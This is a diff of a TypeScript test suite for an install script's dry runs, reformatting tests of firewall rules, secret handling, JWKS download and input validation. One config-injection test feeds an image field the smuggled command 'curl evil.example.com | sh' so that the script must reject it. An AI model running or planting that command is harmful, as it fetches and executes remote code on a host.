@@ -70,28 +70,33 @@ describe("install.sh on a bare host (dry run)", () => {
     expect(unit).toMatch(/^RequiredBy=docker.service$/m);
   });
 
-  it("THEN the firewall gets the VPC's CIDRs and the database port from the host configuration, filled into its rules, and IPv6 rules too", () => {
-    expect(host.file("etc/openhands-team/firewall.env")).toBe(
-      "# openhands-team firewall settings, rendered from the host configuration (network.vpcCidrs, database.port)\nVPC_CIDRS=10.0.0.0/16\nDATABASE_PORT=5432\n",
-    );
-    expect(host.mode("etc/openhands-team/firewall.env")).toBe("0644");
-    expect(host.file("etc/systemd/system/oh-firewall.service")).toMatch(
-      /^ExecStart=\S+\/oh-firewall.sh \S+\/oh-firewall.rules \/etc\/openhands-team\/firewall.env$/m,
-    );
-    const loaded = readFileSync(join(host.state, "iptables"), "utf8");
-    expect(loaded).toContain("-A OH-FORWARD -i ohu-+ -s 10.240.0.2/255.255.0.255 -d 10.0.0.0/16 -p tcp --dport 5432 -j RETURN\n");
-    expect(loaded).toContain("-A OH-FORWARD -i ohu-+ -d 10.0.0.2/32 -p udp --dport 53 -j RETURN\n");
-    expect(loaded).toContain("-A OH-FORWARD -i ohu-+ -d 10.0.0.0/16 -j DROP\n");
-    expect(loaded).not.toContain("@");
-    expect(readFileSync(join(host.state, "ip6tables"), "utf8")).toContain("-A OH-FORWARD -i ohu-+ -j DROP\n");
-    expect(first.calls).toEqual(
-      expect.arrayContaining([
-        "ip6tables-restore -w --noflush",
-        "ip6tables -w -I INPUT 1 -j OH-INPUT",
-        "ip6tables -w -I DOCKER-USER 1 -j OH-FORWARD",
-      ]),
-    );
-  });
+  it(
+    "THEN the firewall gets the VPC's CIDRs and the database port from the host " +
+      "configuration, filled into its rules, and IPv6 rules too",
+    () => {
+      expect(host.file("etc/openhands-team/firewall.env")).toBe(
+        "# openhands-team firewall settings, rendered from the host configuration (network.vpcCidrs, " +
+          "database.port)\nVPC_CIDRS=10.0.0.0/16\nDATABASE_PORT=5432\n",
+      );
+      expect(host.mode("etc/openhands-team/firewall.env")).toBe("0644");
+      expect(host.file("etc/systemd/system/oh-firewall.service")).toMatch(
+        /^ExecStart=\S+\/oh-firewall.sh \S+\/oh-firewall.rules \/etc\/openhands-team\/firewall.env$/m,
+      );
+      const loaded = readFileSync(join(host.state, "iptables"), "utf8");
+      expect(loaded).toContain("-A OH-FORWARD -i ohu-+ -s 10.240.0.2/255.255.0.255 -d 10.0.0.0/16 -p tcp --dport 5432 -j RETURN\n");
+      expect(loaded).toContain("-A OH-FORWARD -i ohu-+ -d 10.0.0.2/32 -p udp --dport 53 -j RETURN\n");
+      expect(loaded).toContain("-A OH-FORWARD -i ohu-+ -d 10.0.0.0/16 -j DROP\n");
+      expect(loaded).not.toContain("@");
+      expect(readFileSync(join(host.state, "ip6tables"), "utf8")).toContain("-A OH-FORWARD -i ohu-+ -j DROP\n");
+      expect(first.calls).toEqual(
+        expect.arrayContaining([
+          "ip6tables-restore -w --noflush",
+          "ip6tables -w -I INPUT 1 -j OH-INPUT",
+          "ip6tables -w -I DOCKER-USER 1 -j OH-FORWARD",
+        ]),
+      );
+    },
+  );
 
   it("THEN the kernel keeps bridged traffic in iptables and the ephemeral port range the firewall opens, at every boot", () => {
     expect(host.file("etc/sysctl.d/90-openhands-team.conf")).toContain("net.bridge.bridge-nf-call-iptables = 1\n");
@@ -219,14 +224,18 @@ describe("install.sh on a bare host (dry run)", () => {
     expect(config.llm.model).toBe("eu.anthropic.claude-sonnet-4-5-20250929-v1:0");
   });
 
-  it("THEN the spawner, the proxy and the firewall agree on the users' networks and the app port (the proxy refuses upstreams outside them)", () => {
-    const spawner = JSON.parse(host.file("run/openhands-team/spawner.json")) as { network: { subnetPrefix: string; appPort: number } };
-    const proxy = JSON.parse(host.file("etc/openhands-team/proxy-settings.json")) as { userSubnetPrefix: string; appPort: number };
-    expect(proxy.userSubnetPrefix).toBe(spawner.network.subnetPrefix);
-    expect(proxy.appPort).toBe(spawner.network.appPort);
-    const firewall = host.file("opt/openhands-team/host/firewall/oh-firewall.sh");
-    expect(firewall).toContain(`USER_NETWORKS=${spawner.network.subnetPrefix}.0.0/16\n`);
-  });
+  it(
+    "THEN the spawner, the proxy and the firewall agree on the users' networks " +
+      "and the app port (the proxy refuses upstreams outside them)",
+    () => {
+      const spawner = JSON.parse(host.file("run/openhands-team/spawner.json")) as { network: { subnetPrefix: string; appPort: number } };
+      const proxy = JSON.parse(host.file("etc/openhands-team/proxy-settings.json")) as { userSubnetPrefix: string; appPort: number };
+      expect(proxy.userSubnetPrefix).toBe(spawner.network.subnetPrefix);
+      expect(proxy.appPort).toBe(spawner.network.appPort);
+      const firewall = host.file("opt/openhands-team/host/firewall/oh-firewall.sh");
+      expect(firewall).toContain(`USER_NETWORKS=${spawner.network.subnetPrefix}.0.0/16\n`);
+    },
+  );
 
   it("THEN the CloudWatch agent publishes host memory and the Docker volume's disk use under the dimensions the alarms read", () => {
     const agent = JSON.parse(host.file("etc/openhands-team/cloudwatch-agent.json")) as Record<string, any>;
@@ -288,13 +297,15 @@ describe("install.sh on a bare host (dry run)", () => {
     expect(after).toEqual(before);
   }, 320_000);
 
-  it("GIVEN a replacement host (same parameters and secrets, new disks, a stale extra tag on the agent-server image) WHEN install.sh runs THEN it reuses every secret and reaches the same files", () => {
+  it("GIVEN a replacement host (same parameters and secrets, new disks, a stale extra tag on the agent-server image) WHEN install.sh " +
+    "runs THEN it reuses every secret and reaches the same files", () => {
     const replacement = new DryRunHost({ world: host });
     try {
       replacement.touchState("images/agent-server");
       writeFileSync(
         join(replacement.state, "images/agent-server"),
-        `ghcr.io/openhands/agent-server:1.19.1-python\nghcr.io/openhands/agent-server:latest\ndigest ghcr.io/openhands/agent-server@${AGENT_SERVER_DIGEST}\n`,
+        `ghcr.io/openhands/agent-server:1.19.1-python\nghcr.io/openhands/agent-server:latest\ndigest ` +
+          `ghcr.io/openhands/agent-server@${AGENT_SERVER_DIGEST}\n`,
       );
       const run = replacement.run();
       expect(run.code).toBe(0);
@@ -310,7 +321,8 @@ describe("install.sh on a bare host (dry run)", () => {
     }
   }, 320_000);
 
-  it("GIVEN a changed host configuration (one more model, another apps log group) WHEN install.sh runs THEN it restarts exactly what depends on the changed files", () => {
+  it("GIVEN a changed host configuration (one more model, another apps log group) WHEN install.sh runs THEN it restarts exactly what " +
+    "depends on the changed files", () => {
     const config = JSON.parse(host.parameter("/oh/test/host/config"));
     config.bedrock.models.push("eu.anthropic.claude-opus-4-1-20250805-v1:0");
     config.logGroups.apps = "/oh/test/apps-v2";
@@ -347,7 +359,8 @@ describe("install.sh refuses bad input (dry run)", () => {
     expect(run.calls).toEqual([]);
   });
 
-  it("GIVEN a host configuration with a newline in the EFS id, a shell command in an image and a rule in the VPC CIDRs (config injection) WHEN install.sh runs THEN every bad field is named and nothing is mounted", () => {
+  it("GIVEN a host configuration with a newline in the EFS id, a shell command in an image and a rule in the VPC CIDRs (config " +
+    "injection) WHEN install.sh runs THEN every bad field is named and nothing is mounted", () => {
     const config = sampleHostConfig() as Record<string, any>;
     config.efsFileSystemId = "fs-0123456789abcdef0 /mnt/x efs defaults 0 0\nfs-0123456789abcdef1:/";
     config.images.node = "node:20; curl evil.example.com | sh";
@@ -368,54 +381,65 @@ describe("install.sh refuses bad input (dry run)", () => {
     expect(host.file("etc/fstab")).not.toContain("efs");
   }, 320_000);
 
-  it("GIVEN Secrets Manager denies access (a real value may exist) WHEN oh-secrets runs at boot THEN it stops and never generates a replacement secret", () => {
-    const host = newHost();
-    host.placeHostConfig();
-    host.touchState("secrets/deny");
-    const run = host.runScript("steps/50-secrets.sh");
-    expect(run.code).not.toBe(0);
-    expect(run.stderr).toContain("AccessDeniedException");
-    expect(run.stderr).toContain("cannot read secret");
-    expect(run.calls.filter((c) => c.startsWith("aws secretsmanager put-secret-value"))).toEqual([]);
-  });
+  it(
+    "GIVEN Secrets Manager denies access (a real value may exist) WHEN oh-secrets runs at boot THEN it stops and never generates a " +
+      "replacement secret",
+    () => {
+      const host = newHost();
+      host.placeHostConfig();
+      host.touchState("secrets/deny");
+      const run = host.runScript("steps/50-secrets.sh");
+      expect(run.code).not.toBe(0);
+      expect(run.stderr).toContain("AccessDeniedException");
+      expect(run.stderr).toContain("cannot read secret");
+      expect(run.calls.filter((c) => c.startsWith("aws secretsmanager put-secret-value"))).toEqual([]);
+    },
+  );
 
-  it("GIVEN the edge stack is not applied yet (first deploy) WHEN oh-secrets runs THEN it carries on, and the watchdog fills the parameter once it exists", () => {
-    const host = newHost();
-    host.placeHostConfig();
-    host.deleteParameter(EDGE_PARAMETER);
-    const boot = host.runScript("steps/50-secrets.sh");
-    expect(boot.code).toBe(0);
-    expect(boot.stderr).toContain("the edge stack has not created /oh/test/edge/secrets yet");
-    expect(host.exists("run/openhands-team/edge-secrets-pending")).toBe(true);
-    // the edge stack is applied: Terraform creates the parameter with its placeholder; the watchdog runs from the installed host files
-    mkdirSync(join(host.root, "opt/openhands-team/host"), { recursive: true });
-    cpSync(join(host.bundle, "firewall"), join(host.root, "opt/openhands-team/host/firewall"), { recursive: true });
-    writeFileSync(join(host.root, "etc/openhands-team/firewall.env"), "VPC_CIDRS=10.0.0.0/16\nDATABASE_PORT=5432\n");
-    host.setParameter(EDGE_PARAMETER, '{"unset":true}');
-    const watchdog = host.runScript("bin/oh-health-check.sh");
-    expect(watchdog.code).toBe(0);
-    const edge = JSON.parse(host.parameter(EDGE_PARAMETER)) as Record<string, string>;
-    expect(edge.identitySigningKey).toBe(host.secret(secretArn("identity-signing-key")));
-    expect(host.exists("run/openhands-team/edge-secrets-pending")).toBe(false);
-    // filled: later runs leave it alone
-    const again = host.runScript("bin/oh-health-check.sh");
-    expect(again.calls.filter((c) => c.startsWith("aws ssm"))).toEqual([]);
-  });
+  it(
+    "GIVEN the edge stack is not applied yet (first deploy) WHEN oh-secrets runs THEN it carries on, and the watchdog fills the " +
+      "parameter once it exists",
+    () => {
+      const host = newHost();
+      host.placeHostConfig();
+      host.deleteParameter(EDGE_PARAMETER);
+      const boot = host.runScript("steps/50-secrets.sh");
+      expect(boot.code).toBe(0);
+      expect(boot.stderr).toContain("the edge stack has not created /oh/test/edge/secrets yet");
+      expect(host.exists("run/openhands-team/edge-secrets-pending")).toBe(true);
+      // the edge stack is applied: Terraform creates the parameter with its placeholder; the watchdog runs from the installed host files
+      mkdirSync(join(host.root, "opt/openhands-team/host"), { recursive: true });
+      cpSync(join(host.bundle, "firewall"), join(host.root, "opt/openhands-team/host/firewall"), { recursive: true });
+      writeFileSync(join(host.root, "etc/openhands-team/firewall.env"), "VPC_CIDRS=10.0.0.0/16\nDATABASE_PORT=5432\n");
+      host.setParameter(EDGE_PARAMETER, '{"unset":true}');
+      const watchdog = host.runScript("bin/oh-health-check.sh");
+      expect(watchdog.code).toBe(0);
+      const edge = JSON.parse(host.parameter(EDGE_PARAMETER)) as Record<string, string>;
+      expect(edge.identitySigningKey).toBe(host.secret(secretArn("identity-signing-key")));
+      expect(host.exists("run/openhands-team/edge-secrets-pending")).toBe(false);
+      // filled: later runs leave it alone
+      const again = host.runScript("bin/oh-health-check.sh");
+      expect(again.calls.filter((c) => c.startsWith("aws ssm"))).toEqual([]);
+    },
+  );
 
-  it("GIVEN an edge secrets parameter already filled with another identity key WHEN oh-secrets runs at boot THEN it keeps it and warns", () => {
-    const host = newHost();
-    host.placeHostConfig();
-    const edge = JSON.stringify({ identitySigningKey: "rotated-by-an-operator", ticketKey: "t", nonceKey: "n" });
-    host.setParameter(EDGE_PARAMETER, edge);
-    const run = host.runScript("steps/50-secrets.sh");
-    expect(run.code).toBe(0);
-    expect(run.calls.filter((c) => c.startsWith("aws ssm put-parameter"))).toEqual([]);
-    expect(host.parameter(EDGE_PARAMETER)).toBe(edge);
-    expect(run.stderr).toContain(
-      "WARNING: /oh/test/edge/secrets holds an identitySigningKey different from the identity-signing-key secret",
-    );
-    expect(host.mode("run/openhands-team/secrets/identity-signing-key")).toBe("0600");
-  });
+  it(
+    "GIVEN an edge secrets parameter already filled with another identity key " + "WHEN oh-secrets runs at boot THEN it keeps it and warns",
+    () => {
+      const host = newHost();
+      host.placeHostConfig();
+      const edge = JSON.stringify({ identitySigningKey: "rotated-by-an-operator", ticketKey: "t", nonceKey: "n" });
+      host.setParameter(EDGE_PARAMETER, edge);
+      const run = host.runScript("steps/50-secrets.sh");
+      expect(run.code).toBe(0);
+      expect(run.calls.filter((c) => c.startsWith("aws ssm put-parameter"))).toEqual([]);
+      expect(host.parameter(EDGE_PARAMETER)).toBe(edge);
+      expect(run.stderr).toContain(
+        "WARNING: /oh/test/edge/secrets holds an identitySigningKey different from the identity-signing-key secret",
+      );
+      expect(host.mode("run/openhands-team/secrets/identity-signing-key")).toBe("0600");
+    },
+  );
 
   // The issuer's JWKS next to the edge keys: the host downloads it (curl, stubbed here by a script that serves
   // $STUB_STATE/jwks and logs its argv like the other stubs) from the jwksUri of the edge config parameter.
@@ -427,7 +451,8 @@ describe("install.sh refuses bad input (dry run)", () => {
     mkdirSync(bin, { recursive: true });
     writeFileSync(
       join(bin, "curl"),
-      '#!/usr/bin/env bash\n{ printf curl; printf " %q" "$@"; printf "\\n"; } >>"$STUB_LOG"\n[ -f "$STUB_STATE/jwks" ] || exit 22\ncat "$STUB_STATE/jwks"\n',
+      '#!/usr/bin/env bash\n{ printf curl; printf " %q" "$@"; printf "\\n"; } >>"$STUB_LOG"\n[ -f "$STUB_STATE/jwks" ] || exit ' +
+        '22\ncat "$STUB_STATE/jwks"\n',
       { mode: 0o755 },
     );
     if (jwks !== undefined) writeFileSync(join(host.state, "jwks"), jwks);
@@ -435,38 +460,46 @@ describe("install.sh refuses bad input (dry run)", () => {
   }
   const edgeSecrets = (host: DryRunHost) => JSON.parse(host.parameter(EDGE_PARAMETER)) as Record<string, unknown>;
 
-  it("GIVEN the edge config names the issuer's jwksUri WHEN oh-secrets fills the placeholder THEN the keys and the issuer's JWKS (public fields only) go in one parameter", () => {
-    const host = newHost();
-    host.placeHostConfig();
-    host.setParameter(EDGE_CONFIG, JSON.stringify({ version: 1, jwksUri: JWKS_URI }));
-    // a private exponent in the answer (a misconfigured issuer) is never stored
-    const env = withJwksServer(host, JSON.stringify({ keys: [{ ...rsaKey("k1"), d: "private" }, rsaKey("k2")] }));
-    const run = host.runScript("steps/50-secrets.sh", [], env);
-    expect(run.code).toBe(0);
-    const edge = edgeSecrets(host);
-    expect(Object.keys(edge).sort()).toEqual(["identitySigningKey", "jwks", "jwksUri", "nonceKey", "ticketKey"]);
-    expect(edge.identitySigningKey).toBe(host.secret(secretArn("identity-signing-key")));
-    expect(edge.jwksUri).toBe(JWKS_URI);
-    expect(edge.jwks).toEqual({ keys: [rsaKey("k1"), rsaKey("k2")] });
-    expect(run.calls).toContain(`curl -fsS --proto =https --max-redirs 0 --max-time 10 --max-filesize 65536 ${JWKS_URI}`);
-    expect(run.calls.filter((c) => c.startsWith("aws ssm put-parameter"))).toHaveLength(1);
-    // the next boot finds the same JWKS: nothing is written
-    const again = host.runScript("steps/50-secrets.sh", [], env);
-    expect(again.calls.filter((c) => c.startsWith("aws ssm put-parameter"))).toEqual([]);
-  });
+  it(
+    "GIVEN the edge config names the issuer's jwksUri WHEN oh-secrets fills the placeholder THEN the keys and the issuer's JWKS " +
+      "(public fields only) go in one parameter",
+    () => {
+      const host = newHost();
+      host.placeHostConfig();
+      host.setParameter(EDGE_CONFIG, JSON.stringify({ version: 1, jwksUri: JWKS_URI }));
+      // a private exponent in the answer (a misconfigured issuer) is never stored
+      const env = withJwksServer(host, JSON.stringify({ keys: [{ ...rsaKey("k1"), d: "private" }, rsaKey("k2")] }));
+      const run = host.runScript("steps/50-secrets.sh", [], env);
+      expect(run.code).toBe(0);
+      const edge = edgeSecrets(host);
+      expect(Object.keys(edge).sort()).toEqual(["identitySigningKey", "jwks", "jwksUri", "nonceKey", "ticketKey"]);
+      expect(edge.identitySigningKey).toBe(host.secret(secretArn("identity-signing-key")));
+      expect(edge.jwksUri).toBe(JWKS_URI);
+      expect(edge.jwks).toEqual({ keys: [rsaKey("k1"), rsaKey("k2")] });
+      expect(run.calls).toContain(`curl -fsS --proto =https --max-redirs 0 --max-time 10 --max-filesize 65536 ${JWKS_URI}`);
+      expect(run.calls.filter((c) => c.startsWith("aws ssm put-parameter"))).toHaveLength(1);
+      // the next boot finds the same JWKS: nothing is written
+      const again = host.runScript("steps/50-secrets.sh", [], env);
+      expect(again.calls.filter((c) => c.startsWith("aws ssm put-parameter"))).toEqual([]);
+    },
+  );
 
-  it("GIVEN a filled parameter (keys rotated by an operator) WHEN the issuer rotated its keys THEN the next boot replaces only the JWKS", () => {
-    const host = newHost();
-    host.placeHostConfig();
-    host.setParameter(EDGE_CONFIG, JSON.stringify({ version: 1, jwksUri: JWKS_URI }));
-    const keys = { identitySigningKey: "rotated-by-an-operator", ticketKey: "t", nonceKey: "n", clientSecret: "cs" };
-    host.setParameter(EDGE_PARAMETER, JSON.stringify({ ...keys, jwksUri: JWKS_URI, jwks: { keys: [rsaKey("old")] } }));
-    const run = host.runScript("steps/50-secrets.sh", [], withJwksServer(host, JSON.stringify({ keys: [rsaKey("old"), rsaKey("new")] })));
-    expect(run.code).toBe(0);
-    expect(edgeSecrets(host)).toEqual({ ...keys, jwksUri: JWKS_URI, jwks: { keys: [rsaKey("old"), rsaKey("new")] } });
-    expect(run.stderr).toContain("stored the issuer's current JWKS in /oh/test/edge/secrets");
-    expect(run.stderr).toContain("WARNING: /oh/test/edge/secrets holds an identitySigningKey different");
-  });
+  it(
+    "GIVEN a filled parameter (keys rotated by an operator) WHEN the issuer " +
+      "rotated its keys THEN the next boot replaces only the JWKS",
+    () => {
+      const host = newHost();
+      host.placeHostConfig();
+      host.setParameter(EDGE_CONFIG, JSON.stringify({ version: 1, jwksUri: JWKS_URI }));
+      const keys = { identitySigningKey: "rotated-by-an-operator", ticketKey: "t", nonceKey: "n", clientSecret: "cs" };
+      host.setParameter(EDGE_PARAMETER, JSON.stringify({ ...keys, jwksUri: JWKS_URI, jwks: { keys: [rsaKey("old")] } }));
+      const run = host.runScript("steps/50-secrets.sh", [], withJwksServer(host, JSON.stringify({ keys: [rsaKey("old"), rsaKey("new")] })));
+      expect(run.code).toBe(0);
+      expect(edgeSecrets(host)).toEqual({ ...keys, jwksUri: JWKS_URI, jwks: { keys: [rsaKey("old"), rsaKey("new")] } });
+      expect(run.stderr).toContain("stored the issuer's current JWKS in /oh/test/edge/secrets");
+      expect(run.stderr).toContain("WARNING: /oh/test/edge/secrets holds an identitySigningKey different");
+    },
+  );
 
   it.each([
     [
@@ -491,17 +524,21 @@ describe("install.sh refuses bad input (dry run)", () => {
       JSON.stringify({ keys: Array.from({ length: 12 }, (_, i) => ({ ...rsaKey(`k${i}`), n: "x".repeat(342) })) }),
       "exceed 4096 bytes",
     ],
-  ])("GIVEN %s WHEN oh-secrets fills the placeholder THEN the keys are written without a JWKS (the edge downloads it) and it says why", (_what, jwksUri, jwks, message) => {
-    const host = newHost();
-    host.placeHostConfig();
-    if (jwksUri !== undefined) host.setParameter(EDGE_CONFIG, JSON.stringify({ version: 1, jwksUri }));
-    const run = host.runScript("steps/50-secrets.sh", [], withJwksServer(host, jwks));
-    expect(run.code).toBe(0);
-    expect(run.stderr).toContain(message);
-    expect(Object.keys(edgeSecrets(host)).sort()).toEqual(["identitySigningKey", "nonceKey", "ticketKey"]);
-  });
+  ])(
+    "GIVEN %s WHEN oh-secrets fills the placeholder THEN the keys are written " + "without a JWKS (the edge downloads it) and it says why",
+    (_what, jwksUri, jwks, message) => {
+      const host = newHost();
+      host.placeHostConfig();
+      if (jwksUri !== undefined) host.setParameter(EDGE_CONFIG, JSON.stringify({ version: 1, jwksUri }));
+      const run = host.runScript("steps/50-secrets.sh", [], withJwksServer(host, jwks));
+      expect(run.code).toBe(0);
+      expect(run.stderr).toContain(message);
+      expect(Object.keys(edgeSecrets(host)).sort()).toEqual(["identitySigningKey", "nonceKey", "ticketKey"]);
+    },
+  );
 
-  it("GIVEN a compose plugin download that is not the pinned binary (supply-chain tampering) WHEN install.sh runs THEN it stops and installs nothing", () => {
+  it("GIVEN a compose plugin download that is not the pinned binary (supply-chain tampering) WHEN install.sh runs THEN it stops and " +
+    "installs nothing", () => {
     const host = newHost();
     const versions = join(host.bundle, "versions.env");
     writeFileSync(versions, readFileSync(versions, "utf8").replace(/^COMPOSE_SHA256=.*$/m, `COMPOSE_SHA256=${"0".repeat(64)}`));
